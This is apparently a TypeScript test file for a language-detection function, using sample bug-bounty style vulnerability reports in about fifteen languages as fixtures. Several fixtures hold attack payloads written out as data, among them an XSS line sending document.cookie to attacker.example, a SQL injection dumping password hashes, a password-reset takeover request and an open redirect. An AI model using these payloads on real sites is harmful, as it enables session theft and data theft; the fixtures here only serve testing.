import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectLanguage } from './detect-language.ts';

/** Realistic reports: title, description with steps, impact. */
const reports = {
  de: [
    'Gespeichertes XSS im Kommentarfeld der Supportseite',
    `Beim Testen der Supportseite ist mir aufgefallen, dass Kommentare ohne ausreichende Filterung gespeichert werden. Ein angemeldeter Benutzer kann dadurch beliebigen JavaScript-Code einschleusen, der bei jedem Besucher der Seite ausgeführt wird.

Schritte zur Reproduktion:
1. Melden Sie sich unter https://support.example.de/login mit einem normalen Konto an.
2. Öffnen Sie ein beliebiges Ticket und senden Sie die folgende Anfrage:

POST /api/tickets/4711/comments HTTP/1.1
Host: support.example.de
Content-Type: application/json
Cookie: session=8f2a9c0d1e

{"body": "<img src=x onerror=alert(document.domain)>"}

3. Laden Sie das Ticket neu. Das Skript wird sofort ausgeführt, auch im Konto eines Administrators.

\`\`\`html
<img src=x onerror="fetch('https://attacker.example/?c='+document.cookie)">
\`\`\`

Der Fehler liegt vermutlich in der Funktion \`renderComment()\`, die den Inhalt direkt in das DOM schreibt.`,
    'Ein Angreifer kann die Sitzung eines Administrators übernehmen und im Namen anderer Benutzer handeln. Da die Cookies nicht als HttpOnly markiert sind, lassen sich Sitzungsdaten direkt auslesen und an einen fremden Server senden.',
  ],
  nl: [
    'Toegang tot facturen van andere klanten via voorspelbaar ID',
    `Ik heb ontdekt dat het klantenportaal facturen teruggeeft op basis van een oplopend nummer, zonder te controleren of de factuur bij het ingelogde account hoort. Door het nummer in de adresbalk aan te passen kon ik facturen van andere klanten bekijken, inclusief naam, adres en rekeningnummer.

Stappen om het te reproduceren:
1. Log in op https://mijn.voorbeeld.nl met een eigen account.
2. Open een eigen factuur, bijvoorbeeld https://mijn.voorbeeld.nl/facturen/102394
3. Verander het nummer aan het eind in 102393 en druk op enter.

GET /api/facturen/102393 HTTP/1.1
Host: mijn.voorbeeld.nl
Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc

De server antwoordt met de volledige factuur van een andere klant. Ik heb dit alleen met twee nummers geprobeerd en daarna direct gestopt.`,
    'Een aanvaller kan met een eenvoudig script alle facturen van alle klanten downloaden. Dat zijn persoonsgegevens en bankgegevens, dus dit is ook een meldplichtig datalek.',
  ],
  en: [
    'SQL injection in the order search endpoint',
    `The search field on the order history page passes its value straight into a SQL query. By adding a single quote to the search term the application returns a database error, and with a crafted payload it is possible to read data from other tables.

To reproduce, sign in as any customer and send the following request:

GET /orders/search?q=test'%20UNION%20SELECT%20email,password%20FROM%20users-- HTTP/1.1
Host: shop.example.com
Cookie: sid=3b1f0c9e

\`\`\`
HTTP/1.1 200 OK
[{"id":"admin@example.com","total":"$2y$10$abcdefghijklmnopqrstuv"}]
\`\`\`

The response contains the e-mail addresses and password hashes of every user. I stopped after confirming the first row and did not keep any of the data.`,
    'An unauthenticated attacker who creates a free account can dump the whole user table, including password hashes, and likely take over administrator accounts.',
  ],
  fr: [
    'Redirection ouverte sur la page de connexion',
    `La page de connexion accepte un paramètre de redirection qui n'est pas vérifié. Après une connexion réussie, l'utilisateur est envoyé vers n'importe quelle adresse, y compris un site contrôlé par un attaquant.

Pour reproduire le problème, ouvrez le lien suivant dans un navigateur : https://compte.exemple.fr/connexion?retour=https://attaquant.example/faux-formulaire puis connectez-vous avec un compte valide. Vous êtes alors redirigé vers le site externe, qui peut imiter la page de connexion et demander à nouveau le mot de passe.

Le paramètre est lu côté client dans le fichier \`login.js\` :

    window.location = params.get('retour');

Il suffirait de n'accepter que des chemins relatifs.`,
    "Un attaquant peut envoyer des liens d'apparence légitime pour voler des identifiants par hameçonnage. Les utilisateurs font confiance au domaine de l'entreprise et ne remarquent pas la redirection.",
  ],
  es: [
    'Exposición de copias de seguridad en el servidor web',
    `Durante una revisión pública encontré que el servidor web permite descargar copias de seguridad completas de la base de datos. El archivo se encuentra en un directorio accesible sin autenticación y su nombre sigue un patrón fácil de adivinar.

Para comprobarlo basta con abrir https://www.ejemplo.es/backup/db_2024-05-01.sql.gz en cualquier navegador. La descarga comienza de inmediato y el archivo contiene tablas con nombres, direcciones y números de teléfono de los clientes. Solo descargué los primeros kilobytes para confirmar el contenido y después borré el archivo de mi equipo.`,
    'Cualquier persona en internet puede obtener los datos personales de todos los clientes. Recomiendo eliminar los archivos del directorio público y revisar los registros de acceso.',
  ],
  it: [
    'Reimpostazione della password senza verifica del token',
    `Il modulo per reimpostare la password non controlla che il token inviato via email appartenga all'utente indicato. Modificando il parametro con l'indirizzo email di un'altra persona, è possibile impostare una nuova password per il suo account.

Passaggi per riprodurre il problema:
1. Richiedere il reset della password per il proprio account.
2. Aprire il link ricevuto e intercettare la richiesta finale.

POST /account/reset HTTP/1.1
Host: area.esempio.it
Content-Type: application/x-www-form-urlencoded

token=9f8e7d6c&email=vittima@esempio.it&password=Nuova123!

3. Il server risponde con successo e la password della vittima viene cambiata.`,
    "Un attaccante può prendere il controllo di qualsiasi account conoscendo soltanto l'indirizzo email della vittima. Questo include gli account degli amministratori.",
  ],
  pl: [
    'Brak kontroli dostępu w panelu administracyjnym',
    `Panel administracyjny sklepu jest dostępny dla każdego zalogowanego użytkownika. Wystarczy wpisać adres https://sklep.przyklad.pl/admin po zalogowaniu na zwykłe konto klienta, aby zobaczyć listę zamówień i dane wszystkich klientów.

Serwer nie sprawdza roli użytkownika, a jedynie to, czy sesja jest ważna. Sprawdziłem tylko stronę główną panelu i niczego nie zmieniałem. Zrzuty ekranu przesyłam w załączniku.`,
    'Atakujący może przeglądać i modyfikować zamówienia, zmieniać ceny oraz pobrać dane osobowe klientów.',
  ],
  sv: [
    'Känsliga uppgifter i felmeddelanden',
    `När man skickar ett felaktigt formulär till kundtjänstens kontaktsida visar servern ett detaljerat felmeddelande. Meddelandet innehåller sökvägar på servern, versionen av ramverket och delar av databasens anslutningssträng.

Det räcker att skicka ett tomt fält för e-postadressen på https://kund.exempel.se/kontakt för att få felet. Jag har bifogat en skärmbild där lösenordet är maskerat. Jag har inte försökt använda uppgifterna.`,
    'En angripare kan använda informationen för att planera mer riktade attacker mot servern och databasen.',
  ],
  ru: [
    'Раскрытие персональных данных через API',
    `Метод API для получения профиля пользователя возвращает полные данные любого пользователя по его идентификатору. Проверка прав доступа отсутствует, поэтому достаточно изменить число в адресе запроса.

GET /api/v1/users/1002/profile HTTP/1.1
Host: api.primer.ru

В ответе содержатся имя, телефон, адрес электронной почты и адрес доставки. Я проверил только два профиля и сразу прекратил тестирование.`,
    'Злоумышленник может собрать персональные данные всех клиентов сервиса.',
  ],
  ja: [
    'パスワード再設定メールのリンクが再利用可能',
    `パスワード再設定のために送信されるリンクは、一度使用した後も有効なままです。さらに有効期限が設定されていないため、古いメールを入手した第三者がいつでもパスワードを変更できます。

再現手順：
1. ログイン画面から「パスワードを忘れた場合」を選択します。
2. 届いたメールのリンクからパスワードを変更します。
3. 同じリンクをもう一度開くと、再びパスワードを変更できます。

この問題は https://www.example.jp/reset で確認しました。`,
    'メールアカウントが侵害された場合、攻撃者は利用者のアカウントを乗っ取ることができます。',
  ],
  zh: [
    '用户资料页面存在存储型跨站脚本漏洞',
    `在用户资料页面的个人简介字段中，输入的内容没有经过任何过滤就直接显示给其他用户。攻击者可以在简介中插入恶意脚本，当其他用户访问该页面时脚本会自动执行。

复现步骤：
1. 登录 https://www.example.cn 并打开个人资料设置。
2. 在简介中填写 <script>alert(1)</script> 并保存。
3. 使用另一个账号访问该用户的资料页面，脚本立即执行。

我只在自己的两个测试账号之间进行了验证，没有影响其他用户。`,
    '攻击者可以窃取其他用户的会话信息，或者以受害者的身份执行操作。',
  ],
} satisfies Record<string, string[]>;

const dutchWithTrace = [
  'Ongeautoriseerde toegang tot de export van medewerkersgegevens',
  `Bij het exporteren van de personeelslijst controleert de applicatie niet of de gebruiker beheerder is. Een gewone medewerker kan via de onderstaande aanvraag een volledige export downloaden, met salarissen en burgerservicenummers.

Zie ook https://intranet.voorbeeld.nl/hr/export?format=csv&all=true en de documentatie op docs.voorbeeld.nl/api/v2/export.

Als je een ongeldig formaat meegeeft, krijg je bovendien de volledige foutmelding van de server te zien:

java.lang.IllegalStateException: Export failed for user 4711 because the requested format is not supported by the current exporter configuration
at com.example.hr.export.ExportService.export(ExportService.java:212)
at com.example.hr.export.ExportController.download(ExportController.java:88)
at org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:897)
Caused by: java.lang.IllegalArgumentException: Unknown format 'xlsx2' requested by the client, expected one of csv, xlsx or json
at com.example.hr.export.FormatResolver.resolve(FormatResolver.java:41)
... 54 more

\`\`\`
Traceback (most recent call last):
  File "/opt/app/export.py", line 12, in <module>
    main()
ValueError: the export job could not be scheduled because the queue is full and no worker is available
\`\`\`

    {"error": "Internal Server Error", "message": "Export failed for the requested user and format", "path": "/hr/export"}

Ik heb de export één keer gedownload om het te bevestigen en het bestand daarna verwijderd.`,
  'Iedere medewerker kan gevoelige persoonsgegevens van alle collega’s inzien, inclusief salarissen. Dat is een ernstig datalek dat bij de toezichthouder gemeld moet worden.',
];

const halfDutchHalfEnglish = [
  'Cross-site scripting in zoekfunctie / search page',
  `De zoekfunctie op de website toont de zoekterm zonder escaping terug op de resultatenpagina. Daardoor kan een aanvaller een link maken die JavaScript uitvoert in de browser van het slachtoffer. Ik heb dit getest in Firefox en Chrome met dezelfde uitkomst.

The search page reflects the search term without escaping it on the results page. An attacker can therefore craft a link that runs JavaScript in the victim's browser. I tested this in Firefox and Chrome with the same result.`,
  'Een aanvaller kan sessies overnemen van ingelogde gebruikers. An attacker can take over the sessions of logged-in users.',
];

const englishQuotingGerman = [
  'Verbose error page leaks internal paths',
  `When the upload form receives a file larger than the limit, the server answers with a detailed error page instead of a short message. The page shows the full stack trace, internal hostnames and the path of the configuration file on disk. I noticed that the message itself is in German, apparently from a library default:

> Die hochgeladene Datei überschreitet die maximal zulässige Größe und konnte nicht gespeichert werden.

I only uploaded a single large file of random bytes to trigger it and did not try to access anything else.`,
  'An attacker learns the internal layout of the server, which makes further attacks easier. The issue does not expose user data by itself.',
];

const onlyCode = [
  'https://example.org/login?next=//evil.example',
  `\`\`\`
GET /api/v1/users/1 HTTP/1.1
Host: api.example.org
\`\`\`

curl -s https://api.example.org/v1/users/1 -H 'Authorization: Bearer eyJhbGciOi.eyJzdWIi.sig'
<script>alert(document.domain)</script>
{"id": 1, "email": "admin@example.org", "role": "admin"}
$ python3 exploit.py --target 10.0.0.12 --port 8443
192.168.1.10 fe80::1ff:fe23:4567:890a admin@example.org
/var/www/html/wp-config.php C:\\inetpub\\wwwroot\\web.config
d41d8cd98f00b204e9800998ecf8427e aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQ=`,
  'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
];

const portuguese = [
  'Falta de limitação de tentativas no login da aplicação móvel',
  `A API usada pela aplicação móvel não limita o número de tentativas de login. Consegui enviar milhares de pedidos seguidos sem qualquer bloqueio, atraso ou verificação adicional.

O pedido utilizado foi o seguinte:

\`\`\`
curl -X POST https://api.exemplo.pt/v2/auth/login -d '{"user":"teste","pass":"123456"}'
\`\`\`

Com uma lista de palavras-passe comuns, um atacante pode descobrir a palavra-passe de muitos utilizadores em poucas horas. Testei apenas com a minha própria conta.`,
  'Os dados pessoais e o histórico de pagamentos dos utilizadores ficam expostos. Sugiro bloquear temporariamente a conta depois de várias tentativas falhadas.',
];

/** Languages franc-min has no model for, each close to one it has. */
const withoutModel: Record<string, string[]> = {
  da: [
    'Manglende adgangskontrol på fakturaer',
    `Jeg har fundet ud af, at kundeportalen viser fakturaer ud fra et fortløbende nummer uden at kontrollere, om fakturaen tilhører den bruger, der er logget ind. Ved at ændre nummeret i adresselinjen kunne jeg se andre kunders fakturaer med navn, adresse og kontonummer.

Jeg har kun prøvet med to numre og stoppede derefter med det samme. Jeg har ikke gemt nogen af oplysningerne.`,
    'En angriber kan hente alle kunders fakturaer med et simpelt script, hvilket er et alvorligt brud på persondatasikkerheden.',
  ],
  no: [
    'Manglende tilgangskontroll på fakturaer',
    `Jeg har funnet ut at kundeportalen viser fakturaer basert på et fortløpende nummer uten å sjekke om fakturaen tilhører brukeren som er logget inn. Ved å endre nummeret i adressefeltet kunne jeg se andre kunders fakturaer med navn, adresse og kontonummer.

Jeg har bare prøvd med to numre og stoppet deretter med en gang. Jeg har ikke lagret noen av opplysningene.`,
    'En angriper kan hente alle kunders fakturaer med et enkelt skript, noe som er et alvorlig brudd på personvernet.',
  ],
  ca: [
    'Manca de control d’accés a les factures',
    `He descobert que el portal de clients mostra les factures a partir d'un número correlatiu sense comprovar si la factura pertany a l'usuari que ha iniciat la sessió. Canviant el número a la barra d'adreces vaig poder veure factures d'altres clients amb el nom, l'adreça i el número de compte.

Només ho he provat amb dos números i després m'he aturat immediatament. No he desat cap de les dades.`,
    'Un atacant pot descarregar les factures de tots els clients amb un script senzill, cosa que suposa una greu bretxa de dades personals.',
  ],
};

test('a German report with a URL, an HTTP request and code is German', () => {
  assert.deepEqual(detectLanguage(reports.de), { language: 'de', name: 'German' });
});

test('realistic reports are detected in their own language, never in another', () => {
  for (const [language, report] of Object.entries(reports)) {
    assert.equal(detectLanguage(report)?.language, language, `the ${language} report`);
  }
  assert.equal(detectLanguage(reports.nl)?.name, 'Dutch');
});

test('a Dutch report stays Dutch when it carries a long English stack trace, JSON and URLs', () => {
  assert.equal(detectLanguage(dutchWithTrace)?.language, 'nl');
});

test('too little prose is not confident', () => {
  assert.equal(detectLanguage(['XSS in login']), undefined);
  assert.equal(detectLanguage(['Stored XSS in login form', 'The name field is not escaped.', '']), undefined);
  assert.equal(detectLanguage([]), undefined);
});

test('only URLs, code, addresses and blobs leave nothing to detect', () => {
  assert.equal(detectLanguage(onlyCode), undefined);
});

test('half Dutch, half English prose is never called a third language', () => {
  assert.ok(['nl', 'en', undefined].includes(detectLanguage(halfDutchHalfEnglish)?.language));
});

test('an English report quoting a German error message is not German', () => {
  assert.equal(detectLanguage(englishQuotingGerman)?.language, 'en');
  const quotedInline = [
    'Verbose error page leaks internal paths',
    'When the upload form receives a file larger than the limit, the server answers with a detailed error page instead of a short message. The page shows the full stack trace and internal hostnames. The message on the page reads: "Die hochgeladene Datei überschreitet die maximal zulässige Größe und konnte deshalb leider nicht auf dem Server gespeichert werden." I only uploaded a single large file of random bytes to trigger it.',
    'An attacker learns the internal layout of the server, which makes further attacks easier.',
  ];
  assert.ok(['en', undefined].includes(detectLanguage(quotedInline)?.language));
});

test('a language close to its neighbour is detected or left open, never called the neighbour', () => {
  assert.ok(['pt', undefined].includes(detectLanguage(portuguese)?.language));
});

test('Danish, Norwegian and Catalan are not passed off as Swedish or Spanish', () => {
  for (const [language, report] of Object.entries(withoutModel)) {
    assert.equal(detectLanguage(report), undefined, `the ${language} report`);
  }
});

test('emoji and odd Unicode do not throw', () => {
  const odd = ['😀🔥 XSS 💥 👩‍💻', '\u202e\u200b\ud800 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ﷽ '.repeat(50), 'Z̷̢͈͓̥̝͇̙͗̊͛͌̀a̷l̶g̷o̸ '.repeat(30)];
  assert.equal(detectLanguage(odd), undefined);
  const withEmoji = reports.en.map((field) => `🚨 ${field} 🙏`);
  assert.equal(detectLanguage(withEmoji)?.language, 'en');
});

test('long runs of punctuation do not stall detection', () => {
  // A backtracking expression took seconds on this input; linear work takes milliseconds.
  const started = performance.now();
  assert.equal(
    detectLanguage([`${')'.repeat(50_000)}a`, '.'.repeat(50_000), 'x@'.repeat(25_000)]),
    undefined,
  );
  assert.ok(performance.now() - started < 1000);
});

test('an accepted best guess is returned without the chunk check; a refusal still needs it', () => {
  const mixed = [
    'Op de inlogpagina wordt de parameter redirect niet gecontroleerd, zodat een aanvaller kan doorsturen naar een eigen website.',
    'The login page does not check the redirect parameter, so an attacker can send people on to a site of their own choosing.',
    'Ik heb dit alleen met mijn eigen account getest en geen gegevens van anderen bekeken of opgeslagen.',
  ];
  assert.equal(detectLanguage(mixed), undefined, 'mixed prose is not confidently one language');
  const guess = detectLanguage(mixed, ['nl', 'en']);
  assert.ok(guess && ['nl', 'en'].includes(guess.language));
  assert.equal(detectLanguage(mixed, ['de']), undefined, 'a refusal still needs confidence');
});
